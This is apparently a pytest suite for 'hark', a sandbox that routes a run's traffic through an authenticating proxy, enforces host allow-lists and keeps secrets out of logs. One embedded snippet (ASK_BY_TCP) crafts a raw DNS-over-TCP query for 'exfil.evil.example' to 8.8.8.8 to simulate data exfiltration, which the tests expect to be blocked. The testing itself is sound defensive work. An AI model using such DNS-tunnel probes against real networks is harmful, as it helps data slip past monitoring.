"""How a run's connections leave: through a proxy, to a service of the host.

The proxy and the services are processes outside of the run, and the witnesses: what they log is
what reached them.
"""

from __future__ import annotations

import base64
import json
import socket
import subprocess
import sys
import threading
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from harness.recording import raw
from harness.running import Finished, environment, hark, need_program
from harness.world import API, NEWS, World

if TYPE_CHECKING:
    from collections.abc import Iterator

AUTH = "corp user:s3cret-of-the-proxy"
REFUSED = "refused.example"


class Proxy:
    """The process of connect_proxy.py; every tunnel leads to the stub."""

    def __init__(self, world: World) -> None:
        self.log = world.directory / "proxy.log"
        self.log.touch()
        script = Path(__file__).with_name("connect_proxy.py")
        self.process = subprocess.Popen(
            [sys.executable, str(script), world.stub.address, AUTH, str(self.log)],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert self.process.stdout is not None
        self.port = int(self.process.stdout.readline())

    def heads(self) -> list[str]:
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def close(self) -> None:
        self.process.kill()
        self.process.communicate()


@pytest.fixture
def proxy(world: World) -> Iterator[Proxy]:
    made = Proxy(world)
    yield made
    made.close()


def run(world: World, policy: str, *command: str, auth: str = AUTH) -> Finished:
    world.policy.write_text(policy)
    return hark(
        "run",
        f"--policy={world.policy}",
        "-o",
        world.bundle,
        "--",
        *command,
        cwd=world.work,
        env=environment(OPENAI_API_KEY=world.key, PROXY_AUTH=auth),
    )


def through(world: World, port: int) -> str:
    return f"""
allow_hosts = ["{API}", "{NEWS}", "{REFUSED}"]
[upstream]
proxy = "http://127.0.0.1:{port}"
auth = "PROXY_AUTH"
ca = "{world.stub.ca_file}"
[secrets.openai]
env = "OPENAI_API_KEY"
hosts = ["{API}"]
header = "authorization"
"""


def fetch(url: str, *more: str) -> str:
    words = " ".join(more)
    curl = f"{need_program('curl')} -sS -o answer -w '%{{http_code}} ' {words} {url}"
    return f"{curl}; tr -d '\\r\\n' < answer; echo"


@pytest.mark.kernel
@pytest.mark.interop
def test_a_run_leaves_through_the_proxy(world: World, proxy: Proxy):
    script = (
        f"{fetch(f'https://{API}/echo', '-H', '$A', '-d', 'hello')}\n"
        f"{fetch(f'https://{REFUSED}/')}\n"
        "env | grep -c PROXY_AUTH"
    ).replace("$A", '"authorization: Bearer $OPENAI_API_KEY"')
    done = run(world, through(world, proxy.port), "/bin/sh", "-c", script)
    echoed, refused, inside = done.text.strip().splitlines()
    assert echoed.startswith("200 "), done
    assert json.loads(refused.removeprefix("502 "))["error"]["reason"] == "proxy_refused"
    assert inside == "0"

    heads = proxy.heads()
    assert [head.split("\r\n")[0] for head in heads] == [
        f"CONNECT {API}:443 HTTP/1.1",
        f"CONNECT {REFUSED}:443 HTTP/1.1",
    ]
    basic = base64.b64encode(AUTH.encode()).decode()
    assert all(f"Proxy-Authorization: Basic {basic}\r\n" in head for head in heads)
    assert not any(world.key in head for head in heads)
    (seen,) = world.stub.requests(API)
    assert f"Bearer {world.key}\r\n".encode() in seen.head

    recording = world.recording()
    place = f"127.0.0.1:{proxy.port}"
    dials = [(e["host"], e["status"], e["proxy"], e["port"]) for e in recording.kind("dial")]
    assert dials == [
        (API, "dialling", place, proxy.port),
        (API, "ok", place, proxy.port),
        (REFUSED, "dialling", place, proxy.port),
        (REFUSED, "proxy_refused", place, proxy.port),
    ]
    assert recording.kind("dial")[-1]["proxy_status"] == 403
    (start,) = recording.kind("run_start")
    assert start["upstream_ca"]
    told = recording.everything() + done.stderr.encode()
    for hidden in (AUTH.encode(), AUTH.partition(":")[2].encode(), basic.encode()):
        assert hidden not in told
        assert hidden not in world.bundle.read_bytes()
    assert hark("verify", world.bundle).status == 0


@pytest.mark.kernel
@pytest.mark.interop
def test_a_wrong_password_is_told_and_not_shown(world: World, proxy: Proxy):
    script = fetch(f"https://{API}/")
    done = run(world, through(world, proxy.port), "/bin/sh", "-c", script, auth="corp:wrong-one")
    assert json.loads(done.text.removeprefix("502 "))["error"]["reason"] == "proxy_auth"
    assert "auth in [upstream]" in done.stderr
    assert "wrong-one" not in done.stderr
    assert not world.stub.connections()
    assert len(proxy.heads()) == 1


@pytest.mark.kernel
@pytest.mark.interop
def test_without_the_extra_ca_the_hosts_certificate_does_not_verify(world: World, proxy: Proxy):
    policy = through(world, proxy.port).replace("ca = ", "# ca = ")
    done = run(world, policy, "/bin/sh", "-c", fetch(f"https://{API}/"))
    assert json.loads(done.text.removeprefix("502 "))["error"]["reason"] == "upstream_certificate"
    assert not world.stub.requests()


@pytest.mark.kernel
@pytest.mark.interop
def test_a_password_that_is_none_ends_the_start(world: World):
    for auth, says in (("nocolon-s3cret", "no colon"), ("a:b\nc-s3cret", "control character")):
        done = run(world, through(world, 3128), "/bin/true", auth=auth)
        assert done.status != 0
        assert says in done.stderr
        assert "s3cret" not in done.stderr


@pytest.mark.kernel
@pytest.mark.interop
def test_what_the_policy_became_is_printed(world: World):
    world.policy.write_text('preset = ["pypi", "debian"]\n')
    done = hark("run", f"--policy={world.policy}", "--dry-run", "--", "/bin/true", cwd=world.work)
    assert done.status == 0, done.stderr
    lines = done.text.splitlines()
    assert 'from_presets = ["debian 1", "pypi 1"]' in lines
    (allowed,) = [line for line in lines if line.startswith("allow_hosts")]
    assert json.loads(allowed.partition("= ")[2]) == [
        "deb.debian.org",
        "files.pythonhosted.org",
        "pypi.org",
        "security.debian.org",
    ]
    done = run(world, 'preset = ["pypi"]\n', "/bin/true")
    assert done.status == 0, done.stderr
    (start,) = world.recording().kind("run_start")
    assert 'from_presets = ["pypi 1"]' in raw(start["policy"]).decode()
    assert start["hosts"] == ["files.pythonhosted.org", "pypi.org"]


ASK_BY_TCP = """
import socket
name = b"".join(bytes([len(part)]) + part for part in (b"exfil", b"evil", b"example")) + b"\\0"
query = bytes((0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)) + name + bytes((0, 1, 0, 1))
sock = socket.create_connection(("8.8.8.8", 53))
sock.settimeout(60)
sock.sendall(len(query).to_bytes(2, "big") + query)
answer = sock.recv(512)
print(answer[2:4].hex(), answer[5] & 15, answer[-4] == 198)
socket.create_connection(("8.8.8.8", 53)).close()
"""


@pytest.mark.kernel
@pytest.mark.interop
def test_questions_by_tcp_are_answered_and_told_like_others(world: World):
    """The answer is hark's own, whatever server was meant."""
    done = run(world, f'allow_hosts = ["{API}"]', "/usr/bin/python3", "-c", ASK_BY_TCP)
    assert done.text.strip() == "1234 0 True", done
    recording = world.recording()
    asked, silent = recording.kind("dns")
    assert (asked["name"], asked["rule"], asked["tcp"]) == (
        "exfil.evil.example",
        "not-in-policy",
        True,
    )
    assert (asked["server"], silent["rule"]) == ("8.8.8.8", "malformed")
    assert asked.actor.digest
    assert asked.actor == silent.actor
    refused = [e for e in recording.kind("denied") if e["layer"] == "dns"]
    assert [(e["proto"], e["dport"]) for e in refused] == [(6, 53)]
    assert not recording.kind("conn")
    assert not [e for e in recording.kind("notice") if e["subject"] == "connects_unmet"]


@pytest.mark.kernel
@pytest.mark.interop
def test_clear_text_only_where_the_policy_says_so_and_without_secrets(world: World):
    heads: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with suppress(OSError):
            while True:
                sock, _ = listener.accept()
                heads.append(sock.recv(65536))
                sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nclear")
                sock.close()

    threading.Thread(target=serve, daemon=True).start()
    policy = f"""
allow_hosts = ["{API}"]
[[host]]
name = "plain.example"
plain = true
[secrets.openai]
env = "OPENAI_API_KEY"
hosts = ["{API}", "plain.example"]
header = "authorization"
"""
    world.policy.write_text(policy)
    script = "\n".join(
        (
            fetch("http://plain.example/", "-H", '"authorization: Bearer $OPENAI_API_KEY"'),
            fetch(f"http://{API}/"),
            fetch("http://plain.example:8080/"),
        )
    )
    done = hark(
        "run",
        f"--policy={world.policy}",
        f"--upstream=plain.example=127.0.0.1:{listener.getsockname()[1]}",
        "-o",
        world.bundle,
        "--",
        "/bin/sh",
        "-c",
        script,
        cwd=world.work,
        env=environment(OPENAI_API_KEY=world.key),
    )
    listener.close()
    good, tls_only, port = done.text.strip().splitlines()
    assert good == "200 clear", done
    assert json.loads(tls_only.removeprefix("403 "))["error"]["reason"] == "plain_http_denied"
    assert port.startswith("403 ")
    (head,) = heads
    assert b"Bearer hark-placeholder-" in head
    assert world.key.encode() not in head
    assert not world.stub.connections()
    exchanges = world.recording().exchanges()
    assert [len(e.denied) for e in exchanges] == [0, 1, 1]
    assert exchanges[0].response_body == b"clear"
